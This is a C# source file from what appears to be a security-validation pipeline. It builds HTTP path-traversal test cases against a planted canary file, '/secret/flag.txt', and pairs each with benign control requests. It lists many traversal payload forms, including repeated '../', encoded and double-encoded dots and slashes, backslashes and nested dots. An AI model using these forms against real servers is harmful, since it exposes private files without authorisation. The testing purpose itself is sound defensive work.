using CodexSecurity.Analysis.Results;
using CodexSecurity.Pipeline.Validation.Library;
using CodexSecurity.Pipeline.Validation.Library.Payloads;
using CodexSecurity.Pipeline.Validation.Planning;

namespace CodexSecurity.Pipeline.Validation.Http.Payloads;

/// <summary>
/// Addresses that leave the server's root. The control asks for a file of the root, and for the same file outside without the way up:
/// a server whose root is the whole disk shows that to everybody, which is no traversal.
/// </summary>
public sealed class HttpPathKit : IHttpKit
{
    private const int Levels = 8;
    private static readonly string[] s_secrets = ["/secret/flag", "/secret/flag.txt", "/secret/flag.json", "/secret/flag.html", "/secret/flag.js", "/secret/index.html"];

    /// <inheritdoc />
    public string Name => "PathRead";

    /// <inheritdoc />
    public OracleSpec Oracle => OracleSpec.Of("http-secret");

    /// <inheritdoc />
    public bool Handles(ValidationInput input) => input.Class == AttackClass.PathRead;

    /// <inheritdoc />
    public IReadOnlyList<HttpCase> Cases(ValidationInput input, bool wide)
    {
        var cases = new List<HttpCase>();
        foreach (var source in input.Candidate.Inputs.Take(2))
        {
            if (source.AccessPath is [] or ["url" or "path" or "originalUrl" or "pathname", ..]) Address(input, source, wide, cases);
            if (source.AccessPath is not ["url" or "path" or "originalUrl" or "pathname", ..] || wide) Values(input, source, wide, cases);
        }

        return cases;
    }

    private static void Address(ValidationInput input, TaintedInput source, bool wide, List<HttpCase> cases)
    {
        string[] targets = wide ? ["secret/flag.txt", "secret/flag.html", "secret/flag", "secret/", "work/secret/flag.txt"] : ["secret/flag.txt"];
        if (NamedEndings.Of(input.Candidate) is not null) targets = [NamedEndings.Target, .. targets];
        foreach (string prefix in (string[])["", .. RawRequests.Prefixes(input).Take(wide ? 6 : 4)])
        {
            foreach (string target in targets)
            {
                foreach (var (name, form) in Forms(target, wide))
                    Add(cases, $"{name} in the address{(prefix.Length > 0 ? " below a folder" : "")}", RawRequests.Get(prefix + form), [RawRequests.Get(prefix + "/benign.txt"), RawRequests.Get(prefix + "/" + target)]);
            }
        }

        // The address itself is the file's name: there is no root that could be left.
        bool bare = input.Candidate.SinkShape is [{ Input: 0 }, ..] && !source.Transformations.Any(t => t.Contains("join", StringComparison.Ordinal) || t.Contains("resolve", StringComparison.Ordinal) || t == "slice");
        if (bare) Add(cases, "absolute address where there is no root", RawRequests.Get("/secret/flag.txt"), [RawRequests.Get(HttpStarts.Root + "/benign.txt")]);
    }

    private static IEnumerable<(string Name, string Address)> Forms(string target, bool wide)
    {
        string Climb(string step, int levels = Levels) => "/" + string.Concat(Enumerable.Repeat(step, levels)) + target;
        yield return ("climbing path", Climb("../"));
        yield return ("encoded dots", Climb("%2e%2e/"));
        yield return ("encoded slashes", Climb("..%2f"));
        yield return ("second slash", "//" + target);
        yield return ("doubled dots", Climb("....//"));
        if (!wide) yield break;
        yield return ("encoded dots and slashes", Climb("%2e%2e%2f"));
        yield return ("half encoded dots", Climb(".%2e/"));
        yield return ("climbing path below a folder", "/a" + Climb("../", Levels + 1));
        yield return ("climbing path below a file", "/benign.txt" + Climb("../", Levels + 1));
        yield return ("twice encoded", Climb("%252e%252e%252f"));
        yield return ("backslashes", Climb("..\\"));
        yield return ("encoded backslashes", Climb("..%5c"));
        yield return ("nested dots", Climb("..././"));
        yield return ("encoded slash first", "/%2f" + target);
        yield return ("climbing path and a query", Climb("../") + "?a=1");
        yield return ("climbing path and an extension", Climb("../") + "?a.js");
        yield return ("three levels", Climb("../", 3));
        yield return ("absolute form", "http://127.0.0.1" + Climb("../"));
    }

    private static void Values(ValidationInput input, TaintedInput source, bool wide, List<HttpCase> cases)
    {
        var payloads = new PathReadPayloads().PayloadsFor(input, wide).Take(wide ? 20 : 4).ToList();
        foreach (var place in RawRequests.Places(input, source).Take(wide ? 8 : 12))
            foreach (var payload in payloads) Add(cases, $"{payload.Strategy} in {Where(source)}", place(payload.Build("benign.txt", "")), [place("benign.txt")]);
    }

    private static void Add(List<HttpCase> cases, string strategy, string attack, IReadOnlyList<string> control)
    {
        if (!cases.Any(c => c.Attack == attack)) cases.Add(new HttpCase($"t{cases.Count + 1}", strategy, attack, control));
    }

    internal static string Where(TaintedInput source) => source.AccessPath.Count == 0 ? "the request" : "the request's " + string.Join('.', source.AccessPath);

    // Some servers open files for reading and writing: one secret lies where that is allowed.
    /// <inheritdoc />
    public ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job with { SecretFiles = s_secrets, Files = [.. job.Files, new ProofFile("secret/flag.txt", Nonces.SecretMark)] };

    /// <inheritdoc />
    public HttpInput Tune(HttpInput input) => input with { Secrets = ["/secret/flag.txt"] };
}
